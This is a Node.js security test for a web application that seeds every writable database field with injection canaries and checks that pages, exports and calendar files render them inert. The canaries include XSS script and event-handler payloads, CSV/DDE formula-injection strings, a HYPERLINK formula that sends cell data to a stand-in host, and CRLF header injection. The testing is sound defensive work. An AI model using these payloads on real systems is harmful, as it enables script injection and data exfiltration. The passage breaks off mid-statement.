// SEC-O2, SEC-O5, SEC-O6: hostile text in every stored field that a person can write comes back inert: on every page of every role, in what forms
// show again, in CSV, XLSX, calendar files, file names and JSON. On a site of its own, because nothing in it is as it was afterwards.
import './lib/own.mjs'
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, readdirSync } from 'node:fs'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { fillAwards } from './lib/awards.mjs'
import { makeDraw, makeDrill, makeEdition, makeEntry, makePanel, makeRule, makeTeamRule, publicId } from './lib/contest.mjs'
import { judged } from './lib/judged.mjs'
import { makePair, makeRequest, unpaired } from './lib/mentor.mjs'
import { everyProgram, open, plain, sql, state, until, url } from './lib/site.mjs'
import { fillPair, idlePeople, makeActivePair } from './lib/mentoring.mjs'
import { makePaper, makePaperProgramme, selectPapers } from './lib/papers.mjs'
import { hero, signIn } from './lib/people.mjs'
import { unzip } from './lib/zip.mjs'

// ---- the canaries ----

// Text that people can write, by table; and for every other text column of the database why nobody can.
const written = {
  ballot: ['return_reason'],
  ballot_log: ['reason'],
  limit_override: ['reason'],
  mark: ['note'],
  penalty: ['reason'],
  run_log: ['reason'],
  run_value: ['reason'],
  calendar_day: ['name'],
  certificate: ['number', 'holder', 'award'],
  certificate_revocation: ['reason'],
  check_result: ['args'],
  class: ['note', 'cancel_reason'],
  completion: ['reason'],
  mentoring_review: ['words'],
  class_log: ['reason'],
  class_session: ['topic'],
  contest_edition: ['contest', 'contest_en', 'place', 'note', 'cancel_reason'],
  contest_edition_log: ['reason'],
  draw: ['word'],
  draw_log: ['reason'],
  team_rule: ['reason'],
  drill: ['topic', 'place', 'note', 'cancel_reason'],
  drill_attendance: ['note'],
  drill_log: ['reason'],
  contest_round: ['name', 'name_en', 'place'],
  appeal: ['words'],
  agreement_template: ['body', 'reason'],
  mentorship_request: ['words', 'opinion_words', 'answer'],
  audit: ['before_json', 'after_json', 'request', 'address', 'program', 'act', 'noun', 'result'],
  correction: ['wrong', 'wanted', 'answer'],
  course: ['title', 'title_en', 'audience', 'summary'],
  course_category: ['name', 'name_en'],
  credential: ['disabled_why'],
  criterion: ['name', 'name_en', 'standard'],
  criterion_band: ['name'],
  criterion_deduction: ['name', 'unit'],
  criterion_fault: ['name'],
  discipline: ['name', 'name_en'],
  entry: ['team_name'],
  entry_log: ['reason'],
  programme_decision: ['document_no', 'issuer'],
  honour: ['name', 'unit_name', 'post', 'title', 'awarded_by', 'document_no', 'cause', 'deeds', 'revoke_reason', 'mistake'],
  honour_revocation: ['reason', 'answer'],
  honour_correction: ['was_name', 'was_unit_name', 'was_title', 'was_awarded_by', 'name', 'unit_name', 'title', 'awarded_by', 'heading', 'holder', 'unit', 'award', 'event', 'detail', 'wording', 'issuer'],
  honour_story: ['words'],
  ceremony: ['place'],
  ceremony_batch: ['presenter'],
  enrolment_log: ['reason'],
  forum: ['title', 'venue'],
  forum_item: ['title'],
  paper_author: ['name', 'unit_name'],
  paper_version: ['accept_reason'],
  file: ['name'],
  import_run: ['file_name'],
  instructor: ['name', 'title'],
  mentor: ['about', 'off_reason'],
  mentoring_log: ['did', 'learned', 'next_step', 'mentor_line'],
  mentoring_material: ['title'],
  mentoring_meeting: ['place', 'topic'],
  mentoring_note: ['question', 'answer'],
  mentoring_sign: ['explanation', 'finding'],
  mentorship: ['end_reason'],
  mentorship_log: ['reason'],
  milestone: ['what'],
  nomination: ['name', 'unit_name', 'post', 'deeds', 'statement', 'cause'],
  nomination_line: ['title', 'detail'],
  nomination_local_notice: ['place', 'words'],
  nomination_log: ['reason'],
  notice: ['args'],
  opinion: ['words'],
  opinion_letter: ['letter_no'],
  official: ['release_reason'],
  pairing_decided: ['reason'],
  programme: ['title', 'award_name', 'approval_no', 'approved_by', 'office', 'phone', 'address', 'conditions', 'reason'],
  programme_authority: ['title'],
  programme_category: ['title'],
  programme_kind: ['title'],
  programme_limit: ['reason'],
  programme_log: ['reason'],
  pairing_need: ['hopes'],
  pairing_round: ['title', 'reason'],
  pairing_round_log: ['reason'],
  pairing_rule: ['parameter'],
  person: ['name', 'phone_masked'],
  posting: ['post'],
  recusal: ['why'],
  recusal_log: ['reason'],
  recusal_reason: ['note'],
  region: ['name'],
  relation: ['note'],
  role_grant: ['reason', 'end_reason'],
  round_rule: ['prize_names'],
  ruling: ['reason'],
  ruling_draft: ['reason'],
  rule_card: ['edition', 'discipline', 'round', 'reason'],
  nomination_override: ['reason'],
  sanction: ['document', 'withdraw_reason'],
  scenario: ['title'],
  scenario_lock: ['reason'],
  segment: ['name', 'name_en'],
  session: ['agent', 'flash_args'],
  setting: ['value', 'before_value'],
  setting_change: ['reason'],
  standard: ['std_no', 'title', 'level', 'category', 'source', 'note'],
  unit: ['name', 'short_name'],
  unsealing: ['reason'],
  unit_version: ['name', 'short_name'],
  venue: ['name', 'short_name']
}
// Public notices and what is said against them.
Object.assign(written, { notice_posting: ['place'], objection: ['name', 'words', 'finding', 'forwarded_to'], objection_log: ['reason'], public_notice: ['reason'] })
// What reviewers and their meeting write.
Object.assign(written, {
  review_assignment: ['words', 'back_reason'],
  review_assignment_log: ['reason'],
  review_criterion: ['title', 'guide'],
  review_declared: ['note'],
  review_decision: ['reason'],
  reviewer: ['reason']
})
const fixed = { // words of the programs, codes, keys, digests
  words: /^(item|format|state|field|open_field|from_state|to_state|step|kind|route|grade|mode|role|act|noun|result|program|type|lang|specialty|obligation|verification|capability|grade_band|employment|flash|slot|side|duty|blind|scoring|effect)$/,
  codes: /^(code|category_code|region_code|parent_code|uscc|staff_no|login)$/,
  made: /^(manifest|folded|pinyin|initials|part|hash|checksum|request|address|path|result_path|unique_key|open_key|payload|last_error|before_json|after_json|team_key)$/,
  here: ['nomination.subject', 'nomination_line.module', 'nomination_local_notice.outcome', 'opinion.outcome', 'review_assignment.vote', 'review_decision.outcome',
    'honour.source', 'programme_rule.rule', 'programme_rule.types', 'nomination_override.rule', 'nomination_override.finding', 'honour.subject', 'honour.series', 'honour.level', 'programme.series', 'programme.level', 'programme.list_order', 'programme_kind.subject', 'programme_kind.review', 'programme_authority.subject',
    'paper_version.findings', 'paper_compilation.why', 'certificate.card', 'certificate.within_noun', 'certificate_bundle.within_noun', 'certificate_bundle.origin', 'certificate_bundle.name', 'certificate_bundle.why', 'certificate_counter.prefix', 'certificate_signature.key_id', 'mentoring_review.stage', 'mentoring_review.guidance', 'mentoring_review_close.stage', 'mentoring_review_reminder.stage', 'completion.proposed', 'agreement.text', 'agreement_signature.party', 'agreement_signature.means', 'mentorship_request.opinion', 'run.status', 'run_value.source', 'mark.counts', 'ruling_draft.changes', 'ruling_draft.outcome', 'ruling.changes', 'ruling.outcome', 'board_version.json', 'recusal.source', 'recusal_reason.reason', 'contest_preset.name', 'contest_preset.name_en', 'contest_preset.ties', 'contest_preset.criteria', 'contest_preset.bands', 'contest_preset.deductions', 'contest_preset.faults', 'drill.discipline_code', 'drill_attendance.presence', 'class.audience', 'unit.level', 'unit_version.level', 'employment.word', 'employment.name_en', 'grade_band.word', 'grade_band.name_en', 'person.staff_key', 'setting.name', 'credential.disabled_kind', 'calendar_year.source', 'schema_migration.name', 'signing_key.key_id', 'signing_key.purpose', 'confirmation.purpose', 'confirmation.means', 'audit_head.key_id', 'audit_head.archive_file', 'round_rule.recused', 'round_rule.combine', 'round_rule.take', 'round_rule.round_mode', 'round_rule.tie_order', 'round_rule.advance_ties', 'round_rule.prize_by', 'round_rule.prize_ratio', 'round_rule.prize_ties', 'rule_card.canonical', 'team_rule.rule', 'rule_card_signature.key_id', 'publication.body', 'publication.statement', 'publication.reason', 'publication_signature.key_id', 'review_seal.cause', 'review_seal.content', 'review_seal.statement', 'review_seal_signature.key_id', 'result.standing', 'result.result', 'result.prize', 'mentor.specialties', 'mentorship.source', 'mentorship.end_code', 'mentoring_material.link', 'mentoring_sign.subject', 'mentoring_sign.evidence', 'mentoring_sign.finding_code', 'scenario.side', 'scenario_run.engine', 'scenario_run.method', 'scenario_run.verdict', 'scenario_run.certificate', 'scenario_pair.alone', 'pairing_need.source', 'pairing_round.method']
}
fixed.here.push('nomination.subject', 'nomination.result', 'nomination_line.module', 'nomination_local_notice.outcome', 'opinion.outcome')
fixed.here.push('notice_posting.way', 'public_notice.list_order', 'public_notice.snapshot')

// What each is good for; # is the number by which the canary is known again.
const kinds = [
  '"><script>window.caught=#</script>',
  "' onfocus='window.caught=#' autofocus x='",
  '<?cs var:me.name ?><?cs evar:me.name ?>#',
  "=cmd|'/C calc'!A0 #",
  '=HYPERLINK("http://elsewhere.example/?"&A1,"#")',
  '+1+cmd|#',
  '-1-cmd|#',
  '@SUM(A1:A9)#',
  '</title></textarea></option><img src=x onerror=window.caught=#>',
  'javascript:window.caught=#//',
  'one\r\nX-Injected: #\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\n',
  '\t=1+#',
  '＝1+＃ \u2028 𬀩·𡈽 #',
  '--><svg/onload=window.caught=#><!--',
  '&lt;b&gt;&#34;&amp; {0} %s %n ${1} #',
  '\\"\\\'\\\\ `#`'
]
const short = ['<b>', "'\"", '=1+', '<?cs'] // where a column has little room
const columns = []
const mark = (number) => `zq${number}z`
const literal = (text) => `CONVERT(X'${Buffer.from(text, 'utf8').toString('hex')}' USING utf8mb4)`

// JSON as the program writes it.
const asWritten = (json) => json.replace(/[<>&\u2028]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)

// A live board with these names.
const board = (round, names, publication = 0) => JSON.stringify({ format: 'jiangxin board 1', round: publicId('contest_round', round), version: 1, at: '2026-11-18T01:00:00Z', mode: 'live', publication, released: names.length, total: names.length, latest: 1,
  figure: { kind: 'panel', name: names[0], parts: names.map((name) => ({ name, weight: '5' })) }, rows: names.map((name, i) => ({ number: i + 1, standing: 'ranked', place: i + 1, joint: false, figure: name, who: name, unit: name })) })

// Puts a canary into every row; which of them falls to a row depends on what stood there.
function poison () {
  // What the background work finds and turns each minute would stand where the canaries do.
  execFileSync('bash', ['-c', `. tools/process.sh; process_stop "${state}/run" TERM 15 jobs`], { cwd: fileURLToPath(new URL('../../', import.meta.url)) })
  const room = Object.fromEntries(sql("SELECT CONCAT(table_name, '.', column_name), character_maximum_length FROM information_schema.columns WHERE table_schema = 'jiangxin'"))
  for (const trigger of ['tr_honour_changed', 'tr_honour_mistaken', 'tr_sanction_fixed', 'tr_nomination_override_fixed', 'tr_limit_override_fixed', 'tr_honour_revoked', 'tr_programme_decision_fixed', 'tr_honour_revocation_changed', 'tr_honour_correction_fixed', 'tr_honour_story_changed', 'tr_programme_changed', 'tr_programme_kind_changed', 'tr_programme_category_changed', 'tr_programme_authority_changed', 'tr_programme_limit_changed',
    'tr_draw_changing', 'tr_mentorship_fixed', 'tr_pairing_round_fixed', 'tr_unsealing_confirming', 'tr_rule_card_fixed', 'tr_team_rule_fixed', 'tr_mark_fixed', 'tr_penalty_fixed', 'tr_run_value_fixed', 'tr_appeal_changed', 'tr_pairing_need_changed', 'tr_pairing_rule_changed', 'tr_mentoring_review_changed', 'tr_completion_changed', 'tr_agreement_template_fixed', 'tr_mentorship_request_changed', 'tr_milestone_changed', 'tr_mentoring_log_changed', 'tr_mentoring_meeting_changed', 'tr_mentoring_material_changed', 'tr_mentoring_note_changed', 'tr_paper_version_changed', 'tr_certificate_fixed', 'tr_certificate_revocation_fixed']) sql(`DROP TRIGGER ${trigger}`) // what they keep is given canaries, too
  for (const trigger of ['tr_nomination_changed', 'tr_nomination_paper', 'tr_nomination_local', 'tr_nomination_line_changed', 'tr_opinion_fixed', 'tr_public_notice_posted', 'tr_review_assignment_changed', 'tr_review_criterion_changed']) sql(`DROP TRIGGER ${trigger}`)
  for (const trigger of ['tr_notice_posting_fixed', 'tr_objection_changed', 'tr_objection_own', 'tr_public_notice_changed']) sql(`DROP TRIGGER IF EXISTS ${trigger}`)
  const snapshot = columns.push('public_notice.snapshot')
  const says_of = kinds.filter((kind) => !/[\r\n\t]/.test(kind)).map((kind) => kind.replaceAll('#', snapshot) + mark(snapshot))
  sql(`UPDATE public_notice SET snapshot = ${literal(asWritten(JSON.stringify({ issuer: says_of[0], title: says_of[1], award: says_of[2], year: 2026, round: 1, days: 5, order: 'stroke', office: says_of[3], phone: says_of[4], address: says_of[5],
    groups: ['individual', 'collective', 'paper'].map((subject, i) => ({ kind: says_of[i], category: i ? says_of[i] : '', subject, items: says_of.map((text) => ({ name: text, unit: text, post: text, deeds: text })) })) })))}`)
  sql('ALTER TABLE draw_log DROP CONSTRAINT ck_draw_log_reason') // a reason stands with a void draw alone
  const card = columns.push('rule_card.canonical') // texts of a card as it may be published: no control characters
  const names = kinds.filter((kind) => !/[\r\n\t]/.test(kind)).map((kind) => kind.replaceAll('#', card) + mark(card))
  sql(`UPDATE rule_card SET canonical = ${literal(JSON.stringify({
    format: 'jiangxin rule card 1',
    title: names[0],
    panel: { judges: names, least: 1 },
    criteria: names.map((name, i) => ({ code: `c${i}`, name, max: 10, step: 1, bands: [{ name, from: 1, to: 2 }], deductions: [{ code: '1', name, unit: '<b>', points: 1 }] })),
    faults: names.map((name, i) => ({ code: `f${i}`, name, effect: 'disqualify' })),
    steps: [{ code: 'p', name: names[1], panel: names.map((_, i) => `c${i}`), combine: 'totals' }],
    result: 'p',
    prizes: { names: names.slice(0, 3), ratio: [1, 2, 3] }
  }))} WHERE round_id NOT IN (SELECT round_id FROM judging)`) // what was judged by a card needs it as it was
  const team = columns.push('team_rule.rule')
  const says = kinds.filter((kind) => !/[\r\n\t]/.test(kind)).map((kind) => kind.replaceAll('#', team) + mark(team))
  const rule = JSON.stringify({ format: 'jiangxin team rule 1', title: says[0], take: 'points', points: [9, 7], disciplines: says, prizes: { names: says.slice(0, 3), ratio: [1, 2, 3] } })
  sql(`UPDATE team_rule SET rule = ${literal(asWritten(rule))}`)
  const shown = columns.push('board_version.json')
  sql('DROP TRIGGER tr_board_version_fixed')
  for (const [round, publication] of sql('SELECT b.round_id, j.publication FROM board b JOIN judging j ON j.round_id = b.round_id')) sql(`UPDATE board_version SET json = ${literal(asWritten(board(round, kinds.map((kind) => kind.replaceAll('#', shown) + mark(shown)), Number(publication))))} WHERE round_id = ${round}`)
  for (const [table, names] of Object.entries(written)) {
    for (const name of names) {
      const number = columns.push(`${table}.${name}`)
      const texts = (Number(room[`${table}.${name}`]) < 80 ? short : kinds).map((text) => text.replaceAll('#', number) + mark(number))
      const lines = name === 'args' || name === 'flash_args' ? texts.map((text) => Array(4).fill(text.replaceAll('\r\n', ' ')).join('\n')) : texts
      // An individual has no team's name, and of a discipline no two are alike; a reason stands with what needs one alone.
      const only = table === 'entry' || ['honour.mistake', 'sanction.withdraw_reason', 'forum_item.title', 'paper_version.accept_reason', 'mentor.off_reason', 'pairing_round.reason', 'programme.reason', 'mentoring_log.mentor_line', 'mentoring_sign.explanation', 'mentoring_sign.finding', 'objection.name', 'objection.finding', 'objection.forwarded_to', 'public_notice.reason', 'honour.revoke_reason', 'reviewer.reason'].includes(`${table}.${name}`) ? ` AND ${name} <> ''` : ''
      // A trace of what stood there keeps apart what must not be the same twice.
      sql(`UPDATE ${table} SET ${name} = CONCAT(ELT(1 + MOD(CRC32(${name}), ${lines.length}), ${lines.map(literal).join(', ')})${lines === texts ? `, LEFT(HEX(CRC32(${name})), 4)` : ''}) WHERE ${name} IS NOT NULL${only}`)
    }
  }
}

// Each worker keeps some of what it read for a moment: others take their places, and the last of those that read is gone.
async function renewed () {
  const workers = programs.flatMap((name) => {
    const [leader] = readFileSync(`${state}/run/${name}.pid`, 'utf8').split(' ')
    return readFileSync(`/proc/${leader}/task/${leader}/children`, 'utf8').trim().split(' ')
  })
  for (const worker of workers) process.kill(Number(worker), 'SIGUSR1')
  await until(() => !workers.some((worker) => existsSync(`/proc/${worker}`)), 'workers that take the places of others')
}

// ---- walking through the site ----

const programs = everyProgram
const routes = programs.flatMap((program) =>
  execFileSync(`${state}/app/bin/${program}`, ['--routes'], { encoding: 'utf8' }).trim().split('\n')
    .map((line) => line.split('\t')).map(([method, path]) => ({ program, method, path })))

const encoded = (id) => id.replace(/=+$/, '').replace(/\+/g, '-').replace(/\//g, '_')
const ids = (table, order) => sql(`SELECT TO_BASE64(public_id) FROM ${table} ORDER BY ${order}`).map(([id]) => encoded(id))
const pairs = (tables) => sql(`SELECT TO_BASE64(e.public_id), TO_BASE64(x.public_id) FROM ${tables} ORDER BY ROW_NUMBER() OVER (PARTITION BY e.state ORDER BY x.id)`).map((both) => both.map(encoded).join('/'))
const triples = (table, where) => sql(`SELECT TO_BASE64(e.public_id), TO_BASE64(r.public_id), TO_BASE64(x.public_id) FROM ${table} x JOIN contest_round r ON r.id = x.round_id JOIN contest_edition e ON e.id = x.edition_id WHERE ${where} ORDER BY x.id`).map((all) => all.map(encoded).join('/'))
const of = (tables) => sql(`SELECT TO_BASE64(m.public_id), TO_BASE64(x.public_id) FROM ${tables} ORDER BY x.id`).map((both) => both.map(encoded).join('/'))
let named // what stands for the names in paths; of several names all, with / between

// A module shows the same to whoever has no part in it: one of each is enough for those, and for the others as many as show every state.
const parts = [
  [/^\/contest/, 4, ['trainee', 'contest_manager', 'liaison']],
  [/^\/award/, 4, ['trainee', 'liaison', 'award_officer', 'leader']],
  [/^\/mentor/, 4, ['trainee', 'liaison', 'hr', 'leader']],
  [/^\/training/, 8, ['trainee', 'training_manager', 'liaison']]
]
function enough (path, role, most) {
  const [, states, whose] = parts.find(([which]) => which.test(path)) ?? [null, most, roles]
  return whose.includes(role) ? Math.min(most, states) : 1
}

// Every address that a route of a page stands for, with `most` ids for a name; a list for each route.
function groups (most, role) {
  return routes.filter((route) => route.method === 'GET').map(({ path }) => {
    const plainly = [...path.matchAll(/:([a-z]+)/g)].map(([, one]) => one).join('/')
    if (!plainly) return [path]
    const name = (path.startsWith('/mentor/round/') ? 'mentor/' : path.startsWith('/award/notice/') ? 'award/' : '') + plainly // a contest has rounds, too
    assert.ok(named[name], `${path}: what stands for :${name}?`)
    return named[name].slice(0, enough(path, role, most)).map((one) => one.split('/').reduce((address, id) => address.replace(/:[a-z]+/, id), path))
  })
}
const addresses = (most, role) => groups(most, role).flat()

const roles = ['trainee', 'training_manager', 'contest_manager', 'liaison', 'hr', 'award_officer', 'leader', 'secadmin', 'sysadmin', 'auditor']
const typing = ['trainee', 'liaison', 'training_manager', 'contest_manager', 'hr', 'award_officer', 'secadmin'] // whose forms are filled and sent
const cookies = {}

async function fetched (role, path, options = {}) {
  const answer = await plain(path, { ...options, headers: { cookie: cookies[role], ...options.headers } })
  assert.ok(answer.status < 500, `${role} ${path}: ${answer.status}`)
  assert.ok(!answer.headers.has('x-injected'), `${role} ${path}: a header came in`)
  return { ...answer, type: answer.headers.get('content-type') ?? '', file: /^attachment/.test(answer.headers.get('content-disposition') ?? '') }
}

// All pages that a role gets: calls `look` with each, its address and its language. Of what is not for the role, only the first
// refusal; in English the first two of what it gets.
async function pages (role, look) {
  for (const group of groups(8, role)) {
    const got = []
    for (const path of group) {
      const answer = await fetched(role, path, { headers: { cookie: `${cookies[role]}; jx_lang=zh-CN` } })
      if (answer.type.startsWith('text/html')) await look(answer, path, 'zh-CN')
      if (answer.status === 200) got.push(path)
      if (answer.status === 403) break
    }
    for (const path of got.slice(0, 2)) {
      const answer = await fetched(role, path, { headers: { cookie: `${cookies[role]}; jx_lang=en` } })
      if (answer.type.startsWith('text/html')) await look(answer, path, 'en')
    }
  }
}

// ---- taking pages apart ----

// What pages are made of is what stands in the templates; whatever else a page has, somebody wrote who should not have. A file for other sites, which has its
// style in itself, is no page. A picture is one of ours when it has no attribute but ours: onerror is nobody's.
const known = { elements: ['html', 'head', 'body', 'tbody'], attributes: [] }
// A notice as one file, which is saved and never shown by us, bears its own style: byte for byte that of its template.
const [style] = /<style>[^<]*<\/style>/.exec(readFileSync(fileURLToPath(new URL('../../templates/award/notice_file.cs', import.meta.url)), 'utf8'))
{
  const root = fileURLToPath(new URL('../../templates/', import.meta.url))
  const text = readdirSync(root, { recursive: true }).filter((name) => name.endsWith('.cs')).map((name) => readFileSync(root + name, 'utf8').replace(/<\?cs[^]*?\?>/g, '')).join('\n')
    .replace(style, '').replaceAll(/<img class="jx-portrait" src="" alt="">/g, '')
  for (const [, name] of text.matchAll(/<([a-z][\w-]*)/g)) known.elements.push(name)
  for (const [, name] of text.matchAll(/\s([a-z][\w-]*)="/g)) known.attributes.push(name)
  for (const [, inside] of text.matchAll(/<[a-z][\w-]*((?:"[^"]*"|[^<>"])*)>/g)) known.attributes.push(...inside.replace(/="[^"]*"/g, '').match(/[a-z][\w-]*/g) ?? [])
  for (const name of known.attributes) assert.doesNotMatch(name, /^(on|style$|srcdoc$|autofocus$|x$|zq$)/)
  for (const name of known.elements) assert.doesNotMatch(name, /^(svg|iframe|object|embed|style|base|b|a-)$/)
}
const shown = new Map() // marks seen, and where first
let laboratory // a page of a real browser, in which pages are taken apart as a browser does it, without running them

// What the laboratory knows how to do. Made there once: only pages are sent afterwards.
function equip ({ origin, elements, attributes, kinds }) {
  elements = new Set(elements)
  attributes = new Set(attributes)
  const bare = (text) => text.replace(/\s/g, '')
  const endings = kinds.map((kind) => bare(kind).slice(-24))
  const met = new Set()
  // The one kind of picture: of whoever has an honour, from our own address, and nothing else about it.
  const portrait = (element) => element.localName === 'img' && [...element.attributes].map(({ name }) => name).join() === 'class,src,alt' &&
    element.className === 'jx-portrait' && /^\/award\/honour\/[\w-]{22}\/(photo|story\/photo\?v=\d+)$/.test(element.getAttribute('src'))
  // What is wrong in a document, which marks its words have, and its words round a mark where they are not as they were written.
  // `strict`: nothing may stand in it that no template has; a page whose scripts have run has what they made as well.
  window.dissect = (page, strict = true) => {
    const faults = []
    const marks = new Set()
    const read = (text, where) => {
      for (const { 0: mark, 1: number, index } of text.matchAll(/zq(\d+)z/g)) {
        marks.add(mark)
        const before = bare(text.slice(Math.max(0, index - 60), index))
        if (where && !endings.some((ending) => before.endsWith(ending.replaceAll('#', number).slice(-20)))) faults.push(`${where}: ${text.slice(Math.max(0, index - 60), index + 8)}`)
      }
    }
    for (const element of page.querySelectorAll('*')) {
      if (portrait(element)) {
        read(element.alt, 'alt')
        continue
      }
      if ((strict || element.localName === 'img') && !elements.has(element.localName)) faults.push(`<${element.localName}>`)
      if (element.localName === 'script' && (element.textContent || !/^\/(static\/js\/|assets\/chart\/chart\.min\.js$)/.test(element.getAttribute('src')))) faults.push(element.outerHTML.slice(0, 200))
      for (const { name, value } of element.attributes) {
        if (strict ? !attributes.has(name) : /^(on|srcdoc$|autofocus$|x$|zq$)/.test(name)) faults.push(`<${element.localName} ${name}>`)
        if (/^(href|src|action|formaction|poster|srcset)$/.test(name)) {
          let to = null
          try { to = new URL(value, origin + '/') } catch {}
          if (to?.origin !== origin || !/^https?:$/.test(to.protocol)) faults.push(`${name}=${value}`)
          read(value)
        } else {
          read(value, /^data-/.test(name) || /^\/[\w/-]*\?/.test(value) ? null : name) // data is often JSON, which scripts read; addresses are encoded
        }
      }
    }
    const comments = page.createTreeWalker(page, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION)
    while (comments.nextNode()) faults.push(`<!--${comments.currentNode.data.slice(0, 100)}`)
    read(page.documentElement.textContent, 'text')
    return { faults: [...new Set(faults)], marks: [...marks].join(' ') }
  }
  // Of a kind of form, the first that is met, with its fields.
  const formsOf = (page, role) => [...page.querySelectorAll('form')].map((form) => ({
    role,
    method: form.method,
    action: form.getAttribute('action') ?? '',
    kind: `${role} ${form.method} ${(form.getAttribute('action') ?? '').replace(/[\w-]{22}/g, ':id')}`,
    fields: [...form.elements].filter((e) => e.name).map((e) => ({ name: e.name, type: e.type, value: e.value, checked: e.checked }))
  })).filter(({ kind }) => !met.has(kind) && met.add(kind))
  window.dissectAll = (sent) => sent.map(([html, role]) => {
    const page = new DOMParser().parseFromString(html, 'text/html')
    const scripts = [...page.querySelectorAll('script')].map((script) => script.getAttribute('src')).filter((src) => !/\/site\.js\?/.test(src))
    return { ...window.dissect(page), forms: role ? formsOf(page, role) : [], scripts: scripts.length }
  })
}

// Codes that lib/doc/qr draws are lines of numbers and nothing else; any other picture counts.
const code = /<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" viewBox="[\d ]+" shape-rendering="crispEdges" [^<>]*>(<(rect|path) [-#\w="., ]*\/>)+<\/svg>/g

function note (text, where) {
  for (const [, number] of text.matchAll(/zq(\d+)z/g)) if (!shown.has(number)) shown.set(number, where)
}

// A page with canaries has no elements and attributes but those of the templates, nothing that leads elsewhere, and its words are
// as they were written. Many are looked at together: what is wrong is told when `looked` has been awaited at the latest.
const waiting = []
async function inert (answer, where, then = () => {}, forms = null) {
  waiting.push({ html: answer.text.replace(code, '').replace(answer.file ? style : '', ''), where, then, forms })
  if (waiting.length === 64) await looked()
}
async function looked () {
  const all = waiting.splice(0)
  const found = await laboratory.evaluate((sent) => window.dissectAll(sent), all.map(({ html, forms }) => [html, forms]))
  found.forEach((page, i) => {
    assert.deepEqual(page.faults, [], all[i].where)
    note(page.marks, all[i].where)
    all[i].then(page)
  })
}

const closing = []
after(async () => { for (const close of closing) await close() })

// Rows that nobody has made yet on a new site: a setting in words, an account that was closed, a role that has ended.
before(() => {
  const editions = ['open', 'draft', 'cancelled'].map((state, no) => makeEdition({ state, no: no + 1 }))
  const [entry] = ['', '红队'].map((team) => makeEntry({ discipline: editions[0].discipline, unit: 'CY-A04', team }))
  makePanel(editions[0], { entry })
  makeDraw(editions[0])
  makeRule(editions[0])
  for (const state of ['held', 'planned', 'cancelled']) makeDrill({ state })
  makeRequest(makePair(hero, unpaired(1, 50)[0]))
  const [[teacher, at]] = sql(`SELECT p.id, o.unit_id FROM person p JOIN posting o ON o.person_id = p.id AND o.main_of IS NOT NULL WHERE p.staff_no = '${hero}'`)
  const lasting = makeActivePair(idlePeople('%', 1)[0], { id: teacher, unit: at }) // in which the hero is the mentor
  fillPair(lasting)
  // What of it was answered, explained, looked at.
  sql(`UPDATE mentoring_note SET answer = '先踏勘再定口径', answered_by = mentor_id, answered_at = '2026-11-02' WHERE mentorship_id = ${lasting}`)
  sql(`UPDATE mentoring_log SET confirmed = 1, confirmed_by = mentor_id, confirmed_at = '2026-10-25', mentor_line = '口径问得好' WHERE mentorship_id = ${lasting}`)
  sql(`UPDATE mentoring_sign s JOIN mentorship m ON m.id = s.mentorship_id SET s.explanation = '当月下乡', s.explained_by = m.mentee_id WHERE m.id = ${lasting}`)
  sql(`UPDATE mentoring_sign SET state = 'looked_at', finding_code = 'nothing', finding = '属实无异常', looked_by = (SELECT MIN(person_id) FROM role_grant WHERE role = 'hr'), looked_at = '2026-12-16' WHERE mentorship_id = ${lasting}`)
  sql(`INSERT INTO mentoring_sign (public_id, mentorship_id, code, subject, since_on, evidence, state, found_at, told_at) VALUES (RANDOM_BYTES(16), ${lasting}, 'missing', 'period:1', '2026-11-01', '{"figure":14}', 'told', '2026-11-15', '2026-11-15')`)
  sql(`UPDATE mentoring_sign SET state = 'hr', hr_at = '2026-12-15' WHERE mentorship_id = ${lasting} AND state = 'told'`)
  const day = makeEdition({ no: 4 })
  const staff = sql('SELECT staff_no FROM person p WHERE left_on IS NULL AND NOT EXISTS (SELECT 1 FROM role_grant g WHERE g.person_id = p.id) ORDER BY id LIMIT 6 OFFSET 100').map(([no]) => no)
  // Papers, the hero's own among them; one was looked at by the office. Their forum.
  const papers = makePaperProgramme()
  const [[writer]] = sql(`SELECT id FROM person WHERE staff_no = '${hero}'`)
  const [[colleague]] = sql(`SELECT id FROM person WHERE staff_no <> '${hero}' ORDER BY id LIMIT 1`)
  const [own, foreign] = [makePaper(papers, 0, writer, '节约'), makePaper(papers, 1, colleague, '保障')]
  selectPapers(papers)
  sql(`INSERT INTO forum (programme_id, title, venue, starts_at, announced_at, changed_by, changed_at) VALUES (${papers.programme}, '交流会', '礼堂', '2027-02-26 01:00:00', '2026-11-18', ${colleague}, '2026-11-18')`)
  sql(`INSERT INTO forum_item (programme_id, position, nomination_id, title, minutes) VALUES (${papers.programme}, 1, ${own}, '', 8), (${papers.programme}, 2, NULL, '会间休息', 15), (${papers.programme}, 3, ${foreign}, '', 8)`)
  // What the award office has registered: sanctions, an entry that was wrong, a limit that was widened.
  const [[office, place]] = sql("SELECT person_id, scope_unit_id FROM role_grant WHERE role = 'award_officer' ORDER BY id LIMIT 1")
  sql(`INSERT INTO sanction (public_id, owner_unit_id, person_id, until_on, document, document_on, created_by, created_at) VALUES (RANDOM_BYTES(16), ${place}, ${writer}, '2028-05-01', '某文', '2026-05-01', ${office}, '2026-11-18'), (RANDOM_BYTES(16), ${place}, ${colleague}, '2028-05-01', '某文', '2026-05-01', ${office}, '2026-11-18');
    UPDATE sanction SET state = 'withdrawn', withdraw_reason = '误' WHERE person_id = ${colleague};
    INSERT INTO honour (public_id, source, owner_unit_id, subject, person_id, name, unit_name, post, series, title, level, awarded_by, awarded_on, year, created_by, created_at, folded, pinyin, initials) VALUES (RANDOM_BYTES(16), 'elsewhere', ${place}, 'individual', ${writer}, '某人', '某单位', '厨师', 'other', '劳模', 'province', '某省', '2025-05-01', 2025, ${office}, '2026-11-18', 'x', 'x', 'x');
    UPDATE honour SET state = 'mistaken', mistake = '误', public = 0 WHERE title = '劳模' AND person_id = ${writer}`)
  // Recommended by the liaison's unit, with all that hangs on a recommendation; and what an authority wrote of it.
  sql(`INSERT INTO programme (public_id, unit_id, series, title, award_name, year, level, state, counted_on, nominate_until, approval_no, approved_by, approved_on, approved_until, created_by, created_at, changed_at)
